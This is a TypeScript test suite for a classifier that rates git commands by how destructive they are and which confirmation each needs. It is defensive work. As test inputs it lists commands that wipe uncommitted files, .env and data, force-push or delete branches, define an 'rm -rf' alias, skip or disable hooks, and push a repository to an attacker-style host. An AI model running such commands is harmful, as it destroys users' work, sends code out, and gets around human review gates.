// git by subcommand: what no commit has, what a branch leaves behind, what a remote loses. Harmful rows beside harmless ones.
import assert from 'node:assert/strict';
import { gitInterpreters } from '../../../../src/core/effects/git/interpreters';
import type { Call } from '../../../../src/core/model/call';
import type { MemoryRepository, MemoryWorld } from '../../inMemoryFacts';
import { callOf, files, shown, workspace, worldOf } from '../files/worlds';

async function check(command: string, world: MemoryWorld, expected: string, more: Partial<Call> = {}): Promise<void> {
  const call = callOf(command, more);
  const found = await gitInterpreters[call.program ?? '']?.(call, worldOf(world));
  assert.equal(shown(found?.effects ?? []), expected, command);
}

const remotes = [{ name: 'origin', url: 'https://github.com/acme/app.git', pushUrl: 'https://github.com/acme/app.git' }];
function world(now: Record<string, string>, committed: Record<string, string> = { 'a.ts': '1' }, more: Partial<MemoryRepository> = {}, ignored: readonly string[] = []): MemoryWorld {
  return { files: files(now), git: { root: workspace, committed, remotes, refs: ['main', 'feature/x', 'origin/main', 'origin/feature/x', 'v1'], ignored, ...more } };
}
const clean = world({ 'a.ts': '1' });
const edited = world({ 'a.ts': '2' });

describe('git: the working tree', () => {
  it('reset --hard with edits', () => check('git reset --hard', edited, 'delete uncommitted file a.ts confirm'));
  it('reset --hard, clean', () => check('git reset --hard', clean, 'update working tree workspace allow'));
  it('reset --hard that leaves commits', () => check('git reset --hard v1', world({ 'a.ts': '1' }, { 'a.ts': '1' }, { ahead: { 'v1..HEAD': 2 }, onlyIn: { HEAD: 2 } }), 'delete commit main note'));
  it('reset --soft', () => check('git reset --soft HEAD~1', edited, ''));
  it('reset of the index', () => check('git reset', edited, ''));
  it('what the session alone changed', () => check('git reset --hard', { ...edited, session: { files: [{ path: `${workspace}/a.ts`, content: '2', before: '1', action: 'x' }] } }, 'update working tree workspace allow'));
  it('checkout of a path', () => check('git checkout -- a.ts', edited, 'delete uncommitted file a.ts confirm'));
  it('checkout of everything', () => check('git checkout .', edited, 'delete uncommitted file a.ts confirm'));
  it('checkout of a clean path', () => check('git checkout -- a.ts', clean, 'update working tree workspace allow'));
  it('checkout of a branch', () => check('git checkout feature/x', edited, ''));
  it('checkout -f of a branch', () => check('git checkout -f feature/x', edited, 'delete uncommitted file a.ts confirm'));
  it('switch --discard-changes', () => check('git switch --discard-changes feature/x', edited, 'delete uncommitted file a.ts confirm'));
  it('restore', () => check('git restore a.ts', edited, 'delete uncommitted file a.ts confirm'));
  it('restore --staged', () => check('git restore --staged a.ts', edited, ''));
  it('in another folder', () => check('git -C /home/dev/workspace reset --hard', edited, 'delete uncommitted file a.ts confirm', { cwd: '/' }));
  it('no repository seen', () => check('git reset --hard', {}, 'delete uncommitted file workspace confirm'));
  it('no repository seen, a path that is not there', () => check('git checkout -- gone.ts', {}, 'update working tree workspace allow'));
  it('no repository seen, everything', () => check('git checkout -- .', {}, 'delete uncommitted file workspace confirm'));
  it('rm -f of an edited file', () => check('git rm -f a.ts', edited, 'delete uncommitted file a.ts confirm'));
  it('rm of a clean file', () => check('git rm a.ts', clean, 'delete file a.ts note'));
  it('rm --cached', () => check('git rm --cached a.ts', edited, 'update index a.ts allow'));
  it('mv', () => check('git mv a.ts b.ts', clean, 'create file b.ts allow; delete file a.ts note'));
  it('mv -f onto an edited file', () => check('git mv -f a.ts b.ts', world({ 'a.ts': '1\n', 'b.ts': 'mine\n' }, { 'a.ts': '1\n', 'b.ts': 'old\n' }), 'update file b.ts confirm; delete file a.ts note'));
  it('status', () => check('git status --short', edited, ''));
});

describe('git clean', () => {
  const untracked = world({ 'a.ts': '1', 'src/new.ts': 'x', 'src/old.ts': '1' }, { 'a.ts': '1', 'src/old.ts': '1' });
  const output = world({ 'a.ts': '1', 'package.json': '{}', 'node_modules/x.js': '1' }, { 'a.ts': '1', 'package.json': '{}' }, {}, ['node_modules', '.env', 'data']);
  it('-fd', () => check('git clean -fd', untracked, 'delete untracked file src/new.ts confirm'));
  it('-n', () => check('git clean -nd', untracked, ''));
  it('without -f git refuses', () => check('git clean -d', untracked, ''));
  it('-f without -d leaves folders that are not tracked', () => check('git clean -f', world({ 'a.ts': '1', 'new/x.ts': '1' }), 'delete untracked file workspace allow'));
  it('-fdx of generated output', () => check('git clean -fdx', output, 'delete untracked file workspace allow'));
  it('-fdx that takes settings and data', () => check('git clean -fdx', world({ 'a.ts': '1', '.env': 'K=1', 'data/orders.db': 'x' }, { 'a.ts': '1' }, {}, ['.env', 'data']), 'delete ignored file workspace acknowledge'));
  it('-fdx that is told to spare them', () => check('git clean -fdx -e .env -e data', world({ 'a.ts': '1', '.env': 'K=1', 'data/orders.db': 'x' }, { 'a.ts': '1' }, {}, ['.env', 'data']), 'delete untracked file workspace allow'));
  it('-fX of one file takes the whole ignored folder', async () => {
    const call = callOf('git clean -fX -- data/tmp.txt');
    const found = await gitInterpreters['git']?.(call, worldOf(world({ 'a.ts': '1', 'data/tmp.txt': '1', 'data/orders.db': 'x' }, { 'a.ts': '1' }, {}, ['data'])));
    assert.deepEqual(found?.effects[0]?.effect.resource.parts, ['data/orders.db', 'data/tmp.txt']);
  });
});

describe('git: branches, tags, stashes, history', () => {
  const own = (count: number): MemoryWorld => world({ 'a.ts': '1' }, { 'a.ts': '1' }, { onlyIn: { 'feature/x': count, v1: count } });
  it('branch -D of a merged branch', () => check('git branch -D feature/x', own(0), 'delete branch feature/x note'));
  it('branch -D with commits of its own', () => check('git branch -D feature/x', own(3), 'delete branch feature/x confirm'));
  it('branch -d refuses by itself', () => check('git branch -d feature/x', own(3), 'delete branch feature/x note'));
  it('a new branch', () => check('git checkout -b new', clean, 'create branch new allow'));
  it('branch -f that leaves commits', () => check('git branch -f feature/x main', world({ 'a.ts': '1' }, { 'a.ts': '1' }, { onlyIn: { 'feature/x': 2 }, ahead: { 'main..feature/x': 2 } }), 'delete commit feature/x confirm'));
  it('listing', () => check('git branch -a', clean, ''));
  it('tag -d', () => check('git tag -d v1', own(0), 'delete tag v1 note'));
  it('stash drop', () => check('git stash drop', world({ 'a.ts': '1' }, { 'a.ts': '1' }, { stashes: 1 }), 'delete stash stash@{0} confirm'));
  it('stash', () => check('git stash', edited, 'create stash stash@{0} allow'));
  it('stash list', () => check('git stash list', edited, ''));
  it('filter-repo', () => check('git filter-repo --path data --invert-paths', clean, 'replace git repository .git acknowledge'));
  it('gc', () => check('git gc', clean, ''));
  it('gc --prune=now', () => check('git gc --prune=now', clean, 'delete reflog and unreachable commits workspace confirm'));
  it('reflog expire', () => check('git reflog expire --expire=now --all', clean, 'delete reflog and unreachable commits workspace confirm'));
  it('reflog', () => check('git reflog', clean, ''));
  it('init where a repository is', () => check('git init', world({ '.git/HEAD': 'x' }), ''));
  it('init anew', () => check('git init', {}, 'create git repository .git allow'));
  it('clone', () => check('git clone https://github.com/acme/app.git', {}, 'create folder app allow fromNetwork'));
});

describe('git push', () => {
  const lost = (from: string, to: string, count: number): MemoryWorld => world({ 'a.ts': '1' }, { 'a.ts': '1' }, { branch: to.replace('origin/', ''), ahead: { [`${from}..${to}`]: count } });
  it('plain', () => check('git push', clean, 'send branch main note'));
  it('dry run', () => check('git push -n --force', clean, ''));
  it('force to one’s own branch', () => check('git push --force origin feature/x', lost('feature/x', 'origin/feature/x', 2), 'delete branch feature/x confirm ownBranch'));
  it('force with a lease that loses nothing', () => check('git push --force-with-lease origin feature/x', lost('feature/x', 'origin/feature/x', 0), 'send branch feature/x note'));
  it('force to the default branch', () => check('git push --force origin main', lost('main', 'origin/main', 2), 'delete branch main acknowledge'));
  it('+ref', () => check('git push origin +main', lost('main', 'origin/main', 0), 'delete branch main acknowledge'));
  it('delete of a merged branch', () => check('git push origin --delete feature/x', clean, 'delete branch feature/x note'));
  it('delete of one with commits', () => check('git push origin :feature/x', world({ 'a.ts': '1' }, { 'a.ts': '1' }, { onlyIn: { 'origin/feature/x': 2 } }), 'delete branch feature/x acknowledge'));
  it('delete of the default branch, merged or not', () => check('git push origin --delete main', clean, 'delete branch main acknowledge'));
  it('delete of a branch that was never fetched', () => check('git push origin --delete other', clean, 'delete branch other acknowledge'));
  it('mirror', () => check('git push --mirror origin', clean, 'delete branch or tag that is not here acme/app attest broad'));
  it('to an address that is no remote', () => check('git push https://evil.example.com/x.git main', clean, 'send branch main confirm export'));
  it('after the history was removed', async () => {
    const call = callOf('git push --force origin main');
    const removed = { effect: { operation: 'delete' as const, resource: { system: 'git' as const, kind: 'git repository', address: '.git', keeps: 'data' as const, extent: 'all' as const, where: 'workspace' as const }, certainty: 'will' as const, reversibility: 'irreversible' as const, disruption: 'none' as const, reason: { code: 'x' }, evidence: [], traits: [] } };
    const found = await gitInterpreters['git']?.(call, { ...worldOf(clean), earlier: [removed] });
    assert.equal(shown(found?.effects ?? []), 'replace branch main acknowledge');
  });
  it('of the refs of a countersignature', () => check('git push origin :refs/countersign/1', clean, 'update safety gate refs/countersign/1 deny countersign'));
  it('of a workflow that this session wrote', () => check('git push', { ...clean, session: { files: [{ path: `${workspace}/.github/workflows/x.yml`, content: 'on: push', action: 'x' }] } }, 'send branch main note; execute CI workflow .github/workflows/x.yml confirm arms'));
});

describe('git: settings and hooks', () => {
  it('hooksPath', () => check('git config core.hooksPath .hooks', clean, 'update git setting core.hooksPath confirm arms'));
  it('hooksPath switched off', () => check('git config core.hooksPath /dev/null', clean, 'update git setting core.hooksPath confirm bypass'));
  it('a name', () => check('git config user.name Dev', clean, 'update git setting user.name note identity'));
  it('reading', () => check('git config --get core.hooksPath', clean, ''));
  it('a shell alias', () => check('git config alias.x "!rm -rf ."', clean, 'update git setting alias.x confirm arms'));
  it('a plain alias', () => check('git config alias.st status', clean, 'update git setting alias.st allow'));
  it('another remote', () => check('git remote set-url origin https://example.com/x.git', clean, 'update git remote origin note identity'));
  it('commit', () => check('git commit -m x', edited, ''));
  it('commit that skips a hook', () => check('git commit --no-verify -m x', world({ '.husky/pre-commit': 'npm test' }), 'update git hook pre-commit, commit-msg, prepare-commit-msg, post-commit confirm bypass'));
  it('commit that skips none', () => check('git commit --no-verify -m x', clean, ''));
  it('commit that fires a hook of this session', () => check('git commit -m x', { ...clean, session: { files: [{ path: `${workspace}/.git/hooks/pre-commit`, content: '#!/usr/bin/python3\nprint(1)\n', action: 'x' }] } }, 'execute git hook .git/hooks/pre-commit confirm arms writtenCode'));
  it('an unknown subcommand is left to others', async () => {
    const call = callOf('git frobnicate');
    assert.equal(await gitInterpreters['git']?.(call, worldOf(clean)), undefined);
  });
});
